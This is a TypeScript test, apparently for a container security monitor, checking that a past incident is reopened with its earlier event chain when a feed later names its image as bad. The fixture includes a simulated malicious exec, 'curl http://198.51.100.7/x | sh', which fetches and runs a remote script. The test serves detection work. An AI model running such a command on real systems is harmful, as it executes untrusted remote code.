import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { containerId, digestOf, happening, named } from '../../../test/builders/happenings.ts';
import type { Event, EventImage } from '../../core/event.ts';
import type { FollowMemory } from '../../core/follow-memory.ts';
import { openIncidentStore } from '../../store/backends/incidents.ts';
import { openFollower, type Follower } from './follower.ts';
import { noWatchSettings } from './watch-settings.ts';

const locations = { builtIn: join(import.meta.dirname, '../../../rules'), added: [] };
const minutesOfWeek = 7 * 24 * 60;

const follow = (memory: FollowMemory): Promise<Follower> =>
  openFollower({ locations, watch: noWatchSettings, verdictOf: () => undefined, memory });

const take = (follower: Follower, ...events: readonly Event[]) =>
  follower.take({ events: events.map((event) => ({ event })), gaps: [] }).incidents;

test('an incident of long ago, whose image a feed names today, is opened again with what happened then', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'tw-recall-'));
  const store = openIncidentStore(folder);
  try {
    const image = named('registry.example/app:1', digestOf('a'));
    const place = { host: 'node-1', containerId: containerId('c') };
    const shell = { commandLine: 'sh -c "curl http://198.51.100.7/x | sh"', executable: '/bin/sh' };
    const past = await follow(store);
    const [before] = take(
      past,
      happening('start', 1, 'start', { image, place }),
      happening('exec', 2, 'exec', { image, place, process: shell }),
    );
    assert.ok(before !== undefined && before.reopened === undefined);
    const hunted = happening('hunted', minutesOfWeek, 'judge', {
      image: { ...image, known_bad: true } as unknown as EventImage,
    });
    // So long after it nothing of it is among the recent events.
    const memory: FollowMemory = { ...store, recent: () => [], keep: () => undefined };
    const forgetful = await follow(memory);
    const without = take(forgetful, hunted);
    assert.deepEqual(
      without[0]?.chain.map(({ step }) => step),
      ['verdict'],
    );
    const today = await follow(memory);
    today.recall(store.hunt([digestOf('a')], 100));
    const [after] = take(today, hunted);
    assert.equal(after?.id, before.id);
    assert.deepEqual(
      after.chain.map(({ step }) => step),
      ['start', 'command', 'verdict'],
    );
    assert.equal(after.reopened, hunted.at);
    assert.ok(after.findings.some(({ rule }) => rule === 'sigma/feed-names-image'));
    assert.ok(before.findings.every(({ rule }) => after.findings.some((finding) => finding.rule === rule)));
  } finally {
    store.close();
    await rm(folder, { recursive: true });
  }
});
